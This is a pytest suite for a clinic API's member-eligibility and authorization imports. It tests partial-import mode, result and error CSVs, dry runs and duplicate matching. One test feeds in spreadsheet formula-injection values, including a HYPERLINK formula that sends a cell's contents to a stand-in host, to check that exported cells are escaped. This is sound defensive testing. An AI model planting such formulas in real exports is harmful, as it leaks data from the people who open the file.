"""valid_rows mode and result files (docs/using/mif-imports.md): which rows were imported, which
failed and why, as CSVs the admin can open; formula-looking cells escaped. Member ids 800_000+."""

from __future__ import annotations

import csv
import io
from typing import Any

import requests
from fixtures_builders import auth_xlsx, mif_csv, mif_xlsx, sample_auth_row, sample_mif_row
from stack_fixture import (
    MIF_URL,
    RunningStack,
    data_uri,
    patients_by_member,
    post_mif,
    snapshot,
    wait_for_file,
)

AUTH_URL = "/v1/admin/clinic/ecm/authorizations"


def detail(stack: RunningStack, url: str, file_id: int) -> dict[str, Any]:
    body = requests.get(f"{stack.api}{url}/{file_id}", headers=stack.headers(), timeout=30)
    assert body.status_code == 200, body.text
    return dict(next(iter(body.json().values())))


def read_csv_url(url: str) -> list[list[str]]:
    response = requests.get(url, timeout=30)
    assert response.status_code == 200, response.text
    assert response.content.decode("utf-8") == response.text
    return list(csv.reader(io.StringIO(response.text, newline="")))


def by_member(table: list[list[str]]) -> dict[str, dict[str, str]]:
    header = table[0]
    rows = [dict(zip(header, line, strict=True)) for line in table[1:]]
    return {row["MEMBER_ID"]: row for row in rows}


def test_valid_rows_imports_good_rows_and_reports_bad_ones(stack: RunningStack) -> None:
    rows = [sample_mif_row(i) for i in range(800_000, 800_006)]
    rows[2]["DOB"] = "13-45-1980"  # file row 4
    rows[4]["MEMBER_ID"] = ""  # file row 6
    rows[5]["ACUITY_LEVEL"] = "extreme"  # file row 7
    response = post_mif(stack, {"file": data_uri(mif_csv(rows), "csv"), "mode": "valid_rows"})
    assert response.status_code == 201, response.text
    body = response.json()
    assert (body["imported_count"], body["created_count"], body["records_failed"]) == (3, 3, 3)
    assert body["errors"][0].startswith("Row 4: DOB '13-45-1980'")
    assert body["errors"][1] == "Row 6: Validation failed: Member ID can't be blank"
    assert body["errors"][2].startswith("Row 7: ")

    stored = patients_by_member(stack)
    for i in (0, 1, 3):
        assert rows[i]["MEMBER_ID"] in stored
    assert rows[2]["MEMBER_ID"] not in stored
    assert rows[5]["MEMBER_ID"] not in stored

    record = detail(stack, MIF_URL, body["mif_file_id"])
    assert (record["status"], record["mode"], record["records_failed"]) == (
        "completed",
        "valid_rows",
        3,
    )
    assert (record["rows_total"], record["stage"]) == (6, "done")
    result = read_csv_url(record["result_file_url"])
    assert result[0] == [*rows[0].keys(), "patient_id", "status", "reason"]
    assert len(result) == 7
    lines = by_member(result)
    for i in (0, 1, 3):
        line = lines[rows[i]["MEMBER_ID"]]
        assert line["status"] == "created"
        assert int(line["patient_id"]) == stored[rows[i]["MEMBER_ID"]]["id"]
        assert line["reason"] == ""
        assert line["FIRST_NAME"] == rows[i]["FIRST_NAME"]
    bad = lines[rows[2]["MEMBER_ID"]]
    assert (bad["status"], bad["patient_id"]) == ("failed", "")
    assert bad["reason"].startswith("DOB '13-45-1980'")
    assert lines[""]["reason"] == "Validation failed: Member ID can't be blank"

    errors = read_csv_url(record["errors_file_url"])
    assert errors[0] == result[0]
    assert sorted(line[-2] for line in errors[1:]) == ["failed", "failed", "failed"]
    assert {line[0] for line in errors[1:]} == {rows[2]["MEMBER_ID"], "", rows[5]["MEMBER_ID"]}

    # Importing the same file again updates the three and still reports the three failures.
    again = post_mif(stack, {"file": data_uri(mif_csv(rows), "csv"), "mode": "valid_rows"})
    assert again.status_code == 201, again.text
    assert (again.json()["updated_count"], again.json()["records_failed"]) == (3, 3)
    lines = by_member(
        read_csv_url(detail(stack, MIF_URL, again.json()["mif_file_id"])["result_file_url"])
    )
    assert lines[rows[0]["MEMBER_ID"]]["status"] == "updated"


def test_all_or_nothing_failure_lists_failed_and_skipped_rows(stack: RunningStack) -> None:
    rows = [sample_mif_row(i) for i in range(800_100, 800_104)]
    rows[1]["ZIP"] = "1234"
    before = snapshot(stack)
    response = post_mif(stack, {"file": data_uri(mif_csv(rows), "csv")})
    assert response.status_code == 422
    [error] = response.json()["errors"]
    assert error.startswith("Row 3: ZIP") and "must be 5 or 9 digits" in error
    assert snapshot(stack) == before
    records = requests.get(
        f"{stack.api}{MIF_URL}", headers=stack.headers(), params={"per_page": 1}, timeout=30
    ).json()["mif_files"]
    record = detail(stack, MIF_URL, records[0]["id"])
    assert (record["status"], record["records_failed"]) == ("failed", 1)
    lines = by_member(read_csv_url(record["result_file_url"]))
    assert lines[rows[1]["MEMBER_ID"]]["status"] == "failed"
    assert lines[rows[1]["MEMBER_ID"]]["reason"].startswith("ZIP")
    for i in (0, 2, 3):
        assert lines[rows[i]["MEMBER_ID"]]["status"] == "skipped"
        assert "all-or-nothing" in lines[rows[i]["MEMBER_ID"]]["reason"]
    assert len(read_csv_url(record["errors_file_url"])) == 2


def test_valid_rows_with_no_valid_row_fails(stack: RunningStack) -> None:
    rows = [sample_mif_row(i) for i in range(800_200, 800_202)]
    for row in rows:
        row["LAST_NAME"] = ""
    response = post_mif(stack, {"file": data_uri(mif_csv(rows), "csv"), "mode": "valid_rows"})
    assert response.status_code == 422
    assert len(response.json()["errors"]) == 2
    assert all(rows[i]["MEMBER_ID"] not in patients_by_member(stack) for i in (0, 1))


def test_result_file_escapes_formulas_and_quotes(stack: RunningStack) -> None:
    rows = [sample_mif_row(i) for i in range(800_300, 800_303)]
    rows[0]["ADDRESS"] = '=HYPERLINK("http://x.example/?"&A1, "click")'
    rows[1]["ADDRESS"] = '12 "Oak", Apt 4\nBuilding B'
    rows[2]["CITY"] = "@SUM(1+1)"
    notes = ["+1-555", "-2+3", "\tcmd", "plain"]
    for row, note in zip(rows, notes, strict=False):
        row["Notes"] = note
    rows[1]["DOB"] = "02-30-1990"  # invalid: its reason is quoted too
    response = post_mif(stack, {"file": data_uri(mif_csv(rows), "csv"), "mode": "valid_rows"})
    assert response.status_code == 201, response.text
    record = detail(stack, MIF_URL, response.json()["mif_file_id"])
    table = read_csv_url(record["result_file_url"])
    assert table[0][-4:] == ["Notes", "patient_id", "status", "reason"]
    lines = by_member(table)
    first, second, third = (lines[r["MEMBER_ID"]] for r in rows)
    assert first["ADDRESS"] == "'" + rows[0]["ADDRESS"]
    assert first["Notes"] == "'+1-555"
    assert second["ADDRESS"] == rows[1]["ADDRESS"]  # commas, quotes, newline: quoted, kept
    assert second["Notes"] == "'-2+3"
    assert second["status"] == "failed"
    assert third["CITY"] == "'@SUM(1+1)"
    assert third["Notes"] == "'\tcmd"
    # The raw bytes: the quoted cell survives as one field.
    raw = requests.get(record["result_file_url"], timeout=30).text
    assert '"12 ""Oak"", Apt 4\nBuilding B"' in raw


def test_dry_run_valid_rows_reports_without_writing(stack: RunningStack) -> None:
    rows = [sample_mif_row(i) for i in range(800_400, 800_404)]
    rows[3]["GENDER"] = "Q"
    before = snapshot(stack)
    response = post_mif(
        stack,
        {"file": data_uri(mif_csv(rows), "csv"), "mode": "valid_rows", "dry_run": True},
    )
    assert response.status_code == 200, response.text
    body = response.json()
    assert (body["would_create"], body["would_update"], body["records_failed"]) == (3, 0, 1)
    assert snapshot(stack) == before
    record = detail(stack, MIF_URL, body["mif_file_id"])
    lines = by_member(read_csv_url(record["result_file_url"]))
    assert lines[rows[0]["MEMBER_ID"]]["status"] == "created"
    assert lines[rows[0]["MEMBER_ID"]]["patient_id"] == ""
    assert lines[rows[0]["MEMBER_ID"]]["reason"] == "dry run: nothing was written"
    assert lines[rows[3]["MEMBER_ID"]]["status"] == "failed"


def forget_member_id(stack: RunningStack, member_id: str) -> None:
    """Make a stored patient one whose member id is not known: no id, no member key."""
    ddb = stack.client("dynamodb")
    patient = patients_by_member(stack)[member_id]
    ddb.update_item(
        TableName="PatientsTable",
        Key={"id": {"N": str(patient["id"])}},
        UpdateExpression="SET eligibility.member_id = :none",
        ExpressionAttributeValues={":none": {"NULL": True}},
    )
    ddb.delete_item(TableName="PatientKeysTable", Key={"key": {"S": f"member#{member_id}"}})


def test_matching_failure_in_valid_rows_keeps_the_rest(stack: RunningStack) -> None:
    existing = sample_mif_row(800_500)
    assert post_mif(stack, {"file": data_uri(mif_csv([existing]), "csv")}).status_code == 201
    forget_member_id(stack, existing["MEMBER_ID"])
    twin = {**existing, "MEMBER_ID": "M800500TWN", "CIN": "980050099A"}
    other = sample_mif_row(800_501)
    # The stored patient has no member id (as migrated records may not): rows 2 and 3 both
    # match it by name and date of birth, a matching error, not a validation one.
    # All-or-nothing: rolled back.
    before = snapshot(stack)
    rejected = post_mif(stack, {"file": data_uri(mif_csv([existing, twin, other]), "csv")})
    assert rejected.status_code == 422
    assert rejected.json()["errors"] == ["Row 3: matches the same patient as row 2"]
    assert snapshot(stack) == before
    listing = requests.get(
        f"{stack.api}{MIF_URL}", headers=stack.headers(), params={"per_page": 1}, timeout=30
    ).json()["mif_files"]
    failed = detail(stack, MIF_URL, listing[0]["id"])
    assert (failed["status"], failed["records_failed"]) == ("failed", 1)
    lines = by_member(read_csv_url(failed["result_file_url"]))
    assert lines["M800500TWN"]["status"] == "failed"
    assert lines[existing["MEMBER_ID"]]["status"] == "skipped"
    assert lines[other["MEMBER_ID"]]["status"] == "skipped"

    response = post_mif(
        stack,
        {"file": data_uri(mif_csv([existing, twin, other]), "csv"), "mode": "valid_rows"},
    )
    assert response.status_code == 201, response.text
    body = response.json()
    assert (body["created_count"], body["updated_count"], body["records_failed"]) == (1, 1, 1)
    assert body["errors"] == ["Row 3: matches the same patient as row 2"]
    record = detail(stack, MIF_URL, body["mif_file_id"])
    lines = by_member(read_csv_url(record["result_file_url"]))
    assert lines[existing["MEMBER_ID"]]["status"] == "updated"
    assert lines["M800500TWN"]["status"] == "failed"
    assert lines[other["MEMBER_ID"]]["status"] == "created"
    assert "M800500TWN" not in patients_by_member(stack)
    # The detail pages the imported records by plan chunk: both rows are there.
    members = {r["member_id"] for r in record["eligibility_informations"]}
    assert members == {existing["MEMBER_ID"], other["MEMBER_ID"]}


def test_xlsx_result_keeps_the_sheet_columns(stack: RunningStack) -> None:
    rows = [sample_mif_row(i) for i in range(800_600, 800_603)]
    rows[1]["STATE"] = "Massachusetts"
    response = post_mif(stack, {"file": data_uri(mif_xlsx(rows), "xlsx"), "mode": "valid_rows"})
    assert response.status_code == 201, response.text
    record = detail(stack, MIF_URL, response.json()["mif_file_id"])
    table = read_csv_url(record["result_file_url"])
    assert table[0][:3] == ["MEMBER_ID", "CIN", "FIRST_NAME"]
    lines = by_member(table)
    assert lines[rows[1]["MEMBER_ID"]]["status"] == "failed"
    assert lines[rows[1]["MEMBER_ID"]]["STATE"] == "Massachusetts"
    assert lines[rows[0]["MEMBER_ID"]]["ZIP"] == rows[0]["ZIP"]


def test_authorization_valid_rows_result_names_authorization_ids(stack: RunningStack) -> None:
    rows = [sample_auth_row(i) for i in range(800_700, 800_703)]
    rows[1]["START_DATE"] = "not a date"
    body = {"authorization": {"file": data_uri(auth_xlsx(rows), "xlsx"), "mode": "valid_rows"}}
    response = requests.post(
        f"{stack.api}{AUTH_URL}", json=body, headers=stack.headers(), timeout=120
    )
    assert response.status_code == 201, response.text
    result = response.json()
    assert (result["imported_count"], result["records_failed"]) == (2, 1)
    record = detail(stack, AUTH_URL, result["authorization_file_id"])
    table = read_csv_url(record["result_file_url"])
    assert table[0][-3:] == ["authorization_id", "status", "reason"]
    statuses = [line[-2] for line in table[1:]]
    assert statuses == ["created", "failed", "created"]
    assert table[1][-3].isdigit() and table[2][-3] == ""


def test_mode_is_validated(stack: RunningStack) -> None:
    rows = [sample_mif_row(800_800)]
    response = post_mif(stack, {"file": data_uri(mif_csv(rows), "csv"), "mode": "some_rows"})
    assert response.status_code == 422
    assert "mif.mode" in response.json()["errors"][0]
    upload = requests.post(
        f"{stack.api}{MIF_URL}/uploads",
        json={"filename": "a.csv", "mode": "valid"},
        headers=stack.headers(),
        timeout=30,
    )
    assert upload.status_code == 422
    assert "mode" in upload.json()["errors"][0]


def test_upload_in_valid_rows_mode(stack: RunningStack) -> None:
    rows = [sample_mif_row(i) for i in range(800_900, 800_960)]
    rows[10]["PHONE"] = "555"
    created = requests.post(
        f"{stack.api}{MIF_URL}/uploads",
        json={"filename": "big.csv", "mode": "valid_rows"},
        headers=stack.headers(),
        timeout=30,
    ).json()
    put = requests.put(
        created["upload_url"], data=mif_csv(rows), headers=created["required_headers"], timeout=60
    )
    assert put.status_code == 200
    record = wait_for_file(stack, created["id"])
    assert (record["status"], record["created_count"], record["records_failed"]) == (
        "completed",
        59,
        1,
    )
    assert record["import_errors"].startswith("Row 12: Phone")
    errors = read_csv_url(record["errors_file_url"])
    assert [line[0] for line in errors[1:]] == [rows[10]["MEMBER_ID"]]
    # 60 rows over chunks of 50: the second chunk holds 9 imported records.
    page = requests.get(
        f"{stack.api}{MIF_URL}/{created['id']}",
        params={"records_page": 2, "records_per_page": 50},
        headers=stack.headers(),
        timeout=30,
    ).json()["mif_file"]
    assert len(page["eligibility_informations"]) == 9
    assert page["records_pagination"]["total_count"] == 59
